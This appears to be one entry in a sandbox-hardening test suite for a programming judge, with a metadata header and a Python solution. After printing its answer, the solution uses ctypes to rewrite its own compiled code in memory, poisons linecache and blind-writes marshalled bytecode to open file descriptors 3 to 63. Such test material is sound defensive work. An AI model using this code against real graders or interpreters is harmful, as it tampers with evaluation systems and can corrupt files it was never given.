# /// attack
# id = "A295"
# name = "poison the compiled form"
# category = "interpreter"
# does = "changes its own code object's constants and names in memory, and its cached text"
# stopped_by = "the compiled form is sealed before the program runs, and read again by each run"
# verdict = "AC"
# problem.tests = [{input="1\n", output="1234568\n"}, {input="2\n", output="1234569\n"}, {input="3\n", output="1234570\n"}]
# ///
import ctypes
import linecache
import marshal
import os
import sys


def answer(n):
    return n + 1234567


print(answer(int(input())))
code = answer.__code__
target = code.co_consts[1]
ctypes.memmove(id(target) + 24, (ctypes.c_uint32 * 1)(7), 4)  # the digits of 1234567
name = code.co_name
ctypes.memmove(id(name) + 48, b"poison", 6)
ctypes.memset(id(code.co_code) + 32, 9, len(code.co_code))
linecache.cache["solution.py"] = (1, None, ["print(7)\n"], "solution.py")
frame = sys._getframe()
poison = marshal.dumps(compile("print(7)", "solution.py", "exec"))
for descriptor in range(3, 64):
    for data in (poison, b"print(7)"):
        try:
            os.pwrite(descriptor, data, 0)
        except OSError:
            pass
os._exit(0) if sys.stdout.flush() is None else None
